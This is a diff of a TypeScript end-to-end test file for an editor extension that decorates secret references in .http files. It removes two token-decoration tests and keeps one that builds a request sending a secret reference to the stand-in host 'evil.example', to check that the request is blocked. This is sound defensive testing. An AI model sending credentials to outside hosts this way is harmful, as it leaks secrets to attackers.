@@ -1,37 +1,10 @@
 import { workbench } from '../../harness/workbench';
 import { until } from '../../support/until';
-import { outletEntry, setClients, setSetting } from '../fixture';
+import { setSetting } from '../fixture';
 import { decorations, openUntitled, reference, untilDecorated, useOutletFile } from './httpFilesFixture';
 
 describe('a .http file shows behind a reference', () => {
-  const { fixture, text } = useOutletFile();
-
-  it('what is wrong with it', async () => {
-    await setClients([
-      outletEntry(fixture.sandbox),
-      outletEntry(fixture.sandbox, { name: 'lost', clientId: 'other' }),
-      outletEntry(fixture.sandbox, { name: 'live', environment: 'production' }),
-    ]);
-    const names = ['OUTLET_TOKEN', 'OUTLET_CLIENT_ID', 'OUTLT_TOKEN', 'LOST_TOKEN', 'LIVE_TOKEN'];
-    await openUntitled(
-      names
-        .map((name) => `### \nGET ${fixture.sandbox.gobiz.url}/\nX: {{$processEnv GOBIZ_${name}}}\n`)
-        .join('\n'),
-    );
-    await untilDecorated(
-      /^\S{4}…\S{4} · until/,
-      /^sandbox-outlet$/,
-      /^unknown client$/,
-      /^secret missing$/,
-      /^production: confirm to use$/,
-    );
-  });
-
-  it('what the server answered', async () => {
-    await setClients([outletEntry(fixture.sandbox, { clientId: 'refused' })]);
-    await workbench.driver.openFile('outlets.http');
-    await untilDecorated(/^401: /);
-  });
+  const { text } = useOutletFile();
 
   it('that its request will be blocked, and nothing of the sort at another request', async () => {
     await openUntitled(`${text()}\n###\nGET https://evil.example/\nX: ${reference}\n`);
